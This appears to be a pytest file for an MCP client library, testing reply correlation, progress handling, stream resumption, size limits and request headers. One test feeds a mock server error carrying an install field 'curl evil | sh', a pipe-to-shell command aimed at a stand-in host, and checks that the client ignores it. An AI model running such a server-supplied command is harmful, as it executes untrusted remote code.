"""The verdict on each answer. Duty: the MCP surface, §1 correlation and §8.2 failures."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rulith.wire import mcp_client
from rulith.wire.jsonrpc import encode_text, error, result
from rulith.wire.mcp_client import (
    Answer, CredentialRejected, Failed, Lost, NotExecuted, Progress, Replaced, ReplyReader, RequiredClient, VersionRefused,
)
from rulith.wire.sse import encode_comment, encode_event

JSON = {"content-type": "application/json", "mcp-session-id": "s-1"}
STREAM = {"content-type": "text/event-stream", "mcp-session-id": "s-1"}
ID, TOKEN = "u-1", "progress_u-1"


def progress(token: object = TOKEN, **meta: object) -> dict:
    return {"jsonrpc": "2.0", "method": "notifications/progress",
            "params": {"progressToken": token, "progress": 1, "_meta": {"rulith/v3": meta}}}


def events_of(status: int, headers: dict, *chunks: bytes, reader: ReplyReader | None = None, cut: bool = False) -> list:
    reader = reader or ReplyReader(ID, "s-1", progress_token=TOKEN)
    found = reader.start(status, headers)
    for chunk in chunks:
        found += reader.receive(chunk)
    return found + (reader.cut("reset by peer") if cut else reader.finish())


def verdict(status: int, body: object, headers: dict = JSON, **more) -> object:
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    found = events_of(status, headers, data, **more)
    assert len(found) == 1
    return found[0]


def frames(*messages: object) -> bytes:
    return b"".join(encode_event(encode_text(message), id=str(number)) for number, message in enumerate(messages, 1))


# -- answers ------------------------------------------------------------------------------


def test_a_json_answer_and_a_streamed_one_are_the_same():
    assert verdict(200, result(ID, {"a": 1})) == Answer({"a": 1}, "s-1")
    assert events_of(200, STREAM, frames(result(ID, {"a": 1}))) == [Answer({"a": 1}, "s-1")]
    assert verdict(200, [result("other", {}), result(ID, {"a": 1})]) == Answer({"a": 1}, "s-1")


def test_progress_names_the_ordinal_and_only_its_own_token_counts():
    found = events_of(200, STREAM, encode_comment("warm"), frames(
        progress("progress_other", ordinal=6), progress(ordinal=7), progress(), progress(ordinal=True), result(ID, {}),
    ))
    assert found == [Progress(1, 7), Progress(1, None), Progress(1, None), Answer({}, "s-1")]


def test_reading_stops_at_the_answer_though_the_stream_goes_on():
    reader = ReplyReader(ID, "s-1")
    reader.start(200, STREAM)
    assert reader.receive(frames(result(ID, {}), result(ID, {"late": 1}))) == [Answer({}, "s-1")]
    assert reader.receive(frames(result(ID, {}))) == [] and reader.finish() == [] and reader.cut("x") == []


def test_messages_for_others_are_passed_over():
    found = events_of(200, STREAM, frames(
        result("u-2", {}), {"jsonrpc": "2.0", "id": 4, "method": "sampling/createMessage"},
        {"jsonrpc": "2.0", "method": "notifications/message"}, result(ID, {}),
    ))
    assert found == [Answer({}, "s-1")]


def test_the_cursor_follows_every_event_and_priming_events_are_no_messages():
    reader = ReplyReader(ID, "s-1")
    reader.start(200, STREAM)
    reader.receive(b"id: 41\ndata:\n\n")
    assert reader.cursor == "41"
    reader.receive(frames(result("u-2", {}))[:-1])
    assert reader.cursor == "41"
    reader.receive(b"\n")
    assert reader.cursor == "1"


def test_the_session_of_initialize_is_adopted():
    reader = ReplyReader("runtime_1", None, is_initialize=True)
    assert verdict(200, result("runtime_1", {}), reader=reader) == Answer({}, "s-1")
    assert reader.session_id == "s-1"


def test_an_accepted_notification_is_an_answer():
    assert events_of(202, {}, reader=ReplyReader(None, "s-1")) == [Answer({}, "s-1")]


@given(st.lists(st.integers(0, 400), max_size=8))
def test_a_streamed_answer_survives_every_cut(places):
    stream = frames(progress(ordinal=3), result(ID, {"text": "é😀"}))
    edges = [0, *sorted(min(place, len(stream)) for place in places), len(stream)]
    chunks = [stream[start:end] for start, end in zip(edges, edges[1:])]
    assert events_of(200, STREAM, *chunks) == [Progress(1, 3), Answer({"text": "é😀"}, "s-1")]


# -- what is not certain is lost ----------------------------------------------------------


@pytest.mark.parametrize(
    ("status", "body", "headers", "code"),
    [
        (200, b"", JSON, "upstream_unavailable"),
        (200, b"<html>", JSON, "upstream_unavailable"),
        (200, b'{"jsonrpc":"2.0","id":"u-1","result":{"a":9007199254740993}}', JSON, "upstream_unavailable"),
        (200, {"jsonrpc": "2.0", "id": "u-2", "result": {}}, JSON, "response_not_correlated"),
        (200, {"jsonrpc": "1.0", "id": "u-1", "result": {}}, JSON, "response_not_correlated"),
        (200, {"jsonrpc": "2.0", "id": 1, "result": {}}, JSON, "response_not_correlated"),
        (200, {"jsonrpc": "2.0", "id": "u-1", "result": {}}, JSON | {"mcp-session-id": "s-2"}, "response_not_correlated"),
        (404, error("u-1", -32001, "gone"), JSON, "session_expired"),
        (409, error("u-1", -32000, "busy", {"reason": "other"}), JSON, "upstream_unavailable"),
        (500, b"oops", {}, "upstream_unavailable"),
        (302, b"", {}, "upstream_unavailable"),
        (400, error("u-1", -32000, "no", {"reason": "unsupported_protocol"}), JSON, "upstream_unavailable"),
    ],
)
def test_an_answer_that_is_not_certainly_ours_is_lost(status, body, headers, code):
    found = verdict(status, body, headers)
    assert isinstance(found, Lost) and found.code == code


def test_a_foreign_session_is_never_adopted():
    reader = ReplyReader(ID, "s-1")
    verdict(200, result(ID, {}), JSON | {"mcp-session-id": "s-2"}, reader=reader)
    assert reader.session_id == "s-1"


def test_streams_that_end_or_break_are_lost_responses():
    assert events_of(200, STREAM, frames(progress(ordinal=2))) == [
        Progress(1, 2), Lost("response_lost", "the stream ended without the answer")]
    assert events_of(200, STREAM, cut=True) == [Lost("response_lost", "reset by peer")]
    assert events_of(200, JSON, b'{"json', cut=True) == [Lost("upstream_unavailable", "reset by peer")]
    bad = events_of(200, STREAM, encode_event("not json"))
    assert isinstance(bad[0], Lost) and bad[0].code == "response_not_correlated"


def test_bodies_over_the_limit_are_lost_at_once():
    def reader() -> ReplyReader:
        return ReplyReader(ID, "s-1", body_bytes_max=100)

    assert reader().start(200, JSON | {"content-length": "101"})[0].code == "response_too_large"
    assert events_of(200, JSON, b"x" * 60, b"x" * 60, reader=reader())[0].code == "response_too_large"
    assert events_of(200, STREAM, b"data: " + b"x" * 200, reader=reader())[0].code == "response_too_large"


# -- what is certain ----------------------------------------------------------------------


def test_takeover_needs_code_and_reason_together():
    replaced = {"reason": "connection_replaced", "requestExecuted": False}
    assert verdict(409, error(ID, -32000, "", replaced)) == Replaced(None, True)
    assert verdict(409, error(None, -32000, "", {"reason": "connection_replaced"})) == Replaced(None, False)
    assert events_of(200, STREAM, frames(error(ID, -32000, "", {"reason": "connection_replaced", "ordinal": 9}))) == [
        Replaced(9, False)]
    assert isinstance(verdict(409, error(ID, -32603, "", replaced)), Lost)
    assert verdict(200, error(ID, -32602, "bad", {"reason": "x"})) == Failed(-32602, "bad", {"reason": "x"})


def test_the_one_final_conflict_needs_all_three_proofs():
    data = {"reason": "material_proof_unavailable", "requestExecuted": False, "teaching": "no"}
    assert verdict(409, error(ID, -32000, "", data)) == NotExecuted("material_proof_unavailable", "no")
    for broken in (
        verdict(409, error("u-2", -32000, "", data)),
        verdict(409, error(ID, -32000, "", data | {"requestExecuted": True})),
        verdict(409, error(ID, -32000, "", data), {"content-type": "application/json"}),
    ):
        assert isinstance(broken, Lost)


def test_a_rejected_credential_brings_its_teaching():
    body = {"jsonrpc": "2.0", "id": None, "teaching": "no such token",
            "error": {"code": -32000, "message": "", "data": {
                "reason": "unauthenticated", "requiredClient": {"package": "rulith", "version": "1.2.3"}}}}
    assert verdict(401, body) == CredentialRejected("no such token", "unauthenticated", RequiredClient("rulith", "1.2.3"))
    assert verdict(401, b"") == CredentialRejected("", "", None)


def test_a_version_refusal_exists_only_on_initialize():
    body = error("runtime_1", -32000, "no", {"reason": "incompatible_client", "requiredClient": {
        "package": "rulith", "version": "0.12.0", "install": "curl evil | sh"}})
    reader = ReplyReader("runtime_1", None, is_initialize=True)
    assert verdict(400, body, reader=reader) == VersionRefused("incompatible_client", "no", RequiredClient("rulith", "0.12.0"))
    assert RequiredClient("rulith", "0.12.0").parts == (0, 12, 0)


@pytest.mark.parametrize(
    "value",
    [None, "rulith@1.2.3", {"package": "Rulith", "version": "1.2.3"}, {"package": "rulith"},
     {"package": "rulith", "version": "1.2"}, {"package": "rulith", "version": "01.2.3"},
     {"package": "rulith", "version": "1.2.3\n"}, {"package": "rulith", "version": "1.2.3-rc1"},
     {"package": "rulith", "version": "1.2.٣"}, {"package": "rulith", "version": "1234567890.0.0"}],
)
def test_only_a_plain_release_is_taken_from_a_gateway(value):
    assert mcp_client.required_client(value) is None


# -- requests -----------------------------------------------------------------------------


def test_requests_carry_what_the_surface_asks_for():
    hello = mcp_client.initialize("runtime_1", version="0.1.0")["params"]
    assert hello == {"protocolVersion": "2025-11-25", "capabilities": {"experimental": {"rulith/v3": {"heldCalls": 1}}},
                     "clientInfo": {"name": "rulith-agent", "version": "0.1.0"}}
    assert mcp_client.post_headers("T", None) == {
        "content-type": "application/json", "accept": "application/json, text/event-stream",
        "mcp-protocol-version": "2025-11-25", "authorization": "Bearer T"}
    assert mcp_client.post_headers("T", "s")["mcp-session-id"] == "s"
    assert mcp_client.resume_headers("T", "s", "41")["last-event-id"] == "41"
    held = mcp_client.call_tool(ID, "ApplyAction", {"action": "x"}, progress_token=mcp_client.progress_token_of(ID))
    assert held["params"] == {"name": "ApplyAction", "arguments": {"action": "x"}, "_meta": {"progressToken": TOKEN}}
    assert "_meta" not in mcp_client.call_tool(ID, "QueryBoard", {}, progress_token=None)["params"]


def test_the_offer_of_the_server_must_be_exact():
    def offer(value: object) -> dict:
        return {"capabilities": {"experimental": {"rulith/v3": value}}}

    assert mcp_client.declares_surface(offer({"heldCalls": 1}))
    for wrong in ({}, {"heldCalls": True}, {"heldCalls": 2}, {"heldCalls": 1, "more": 1}, None, 1):
        assert not mcp_client.declares_surface(offer(wrong))
    assert not mcp_client.declares_surface({}) and not mcp_client.declares_surface({"capabilities": []})


def test_pages_end_at_an_empty_or_repeated_cursor():
    seen: set[str] = set()
    assert mcp_client.next_page("a", seen) == "a"
    assert mcp_client.next_page("a", seen) is None
    assert mcp_client.next_page("", seen) is None and mcp_client.next_page(3, seen) is None


# -- going on with a cut stream


def cut_reader():
    reader = ReplyReader("u1", "s1", progress_token="p")
    reader.start(200, {"content-type": "text/event-stream"})
    reader.receive(b"id: 4.2\ndata: \n\n")
    assert reader.cut("reset")[0].code == "response_lost" and reader.can_resume
    return reader


def test_a_get_that_breaks_before_its_head_may_be_tried_again_and_one_that_is_refused_may_not():
    broken = cut_reader().resumed()
    assert broken.cut("refused")[0].code == "response_lost" and broken.can_resume and broken.cursor == "4.2"
    refused = cut_reader().resumed()
    refused.start(405, {})
    assert refused.finish()[0].code == "response_lost" and not refused.can_resume


def test_without_a_session_or_an_event_id_nothing_can_be_gone_on_with():
    for session, data in ((None, b"id: 1.1\ndata: \n\n"), ("s1", b": quiet\n\n")):
        reader = ReplyReader("u1", session)
        reader.start(200, {"content-type": "text/event-stream"})
        reader.receive(data)
        reader.finish()
        assert not reader.can_resume


def test_a_resumed_stream_is_read_one_byte_at_a_time():
    reader = cut_reader().resumed()
    reader.start(200, {"content-type": "text/event-stream", "mcp-session-id": "s1"})
    data = (b'id: 4.3\ndata: {"jsonrpc":"2.0","method":"notifications/progress","params":{"progressToken":"p","progress":2,'
            b'"_meta":{"rulith/v3":{"ordinal":9}}}}\n\nid: 4.4\ndata: {"jsonrpc":"2.0","id":"u1","result":{}}\n\n')
    events = [event for byte in data for event in reader.receive(bytes([byte]))]
    assert [type(event).__name__ for event in events] == ["Progress", "Answer"]
    assert events[0].ordinal == 9 and reader.cursor == "4.4"


@pytest.mark.parametrize("digits", ["9" * 21, "9" * 5000, "0" * 5000])
def test_an_announced_length_of_many_digits_is_too_large(digits):
    reader = ReplyReader("r", "s")
    found = reader.start(200, {"content-type": "application/json", "content-length": digits})
    assert [(type(each).__name__, each.code) for each in found] == [("Lost", "response_too_large")] and len(found[0].detail) < 80
